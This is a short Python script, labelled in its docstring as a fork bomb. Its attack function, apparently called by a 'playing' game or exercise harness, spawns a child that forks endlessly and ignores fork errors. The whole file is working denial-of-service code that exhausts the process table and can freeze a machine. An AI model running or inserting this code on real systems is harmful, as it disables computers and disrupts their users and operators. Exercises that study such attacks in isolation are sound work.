#!/usr/bin/env python3
"""A fork bomb: every process forks again and again, and none exits."""
import os

import playing


def attack(number):
    if number == 2 and os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass


playing.play(attack)
